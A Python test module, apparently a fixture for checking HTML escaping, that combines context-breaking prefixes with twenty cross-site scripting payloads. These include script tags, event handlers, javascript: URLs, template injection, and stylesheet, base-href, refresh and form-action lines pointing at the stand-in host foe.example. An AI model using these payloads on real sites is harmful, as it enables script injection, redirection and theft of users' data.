"""Injection texts: script, markup and URLs, in every combination of escape and payload."""

BREAKS = ("", '">', "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "${", "{{")
ACTS = (
    "<script>hit()</script>",
    "<img src=x onerror=hit()>",
    "<svg/onload=hit()>",
    "<svg><script>hit()</script></svg>",
    "<iframe srcdoc='<script>parent.hit()</script>'>",
    "<details open ontoggle=hit()>",
    "<input autofocus onfocus=hit()>",
    "<a href=javascript:hit()>x</a>",
    "<math><mi xlink:href='javascript:hit()'>x",
    "<style>@import'//foe.example/x.css'</style>",
    "<link rel=stylesheet href=//foe.example/x.css>",
    "<meta http-equiv=refresh content='0;url=//foe.example'>",
    "<base href=//foe.example/>",
    "<form action=//foe.example><button autofocus>x",
    "<object data='javascript:hit()'>",
    "<video><source onerror=hit()>",
    "' onmouseover=hit() x='",
    "javascript:hit()",
    "constructor.constructor('hit()')()}}",
    "\u003cimg src=//foe.example/x\u003e",
)
VECTORS = [f"{out}{act}" for act in ACTS for out in BREAKS]
"""All vectors: two hundred."""

MAX_NAME_CHARACTERS = 32
NAMES = [vector for vector in VECTORS if len(vector) <= MAX_NAME_CHARACTERS and "foe" not in vector][:12]
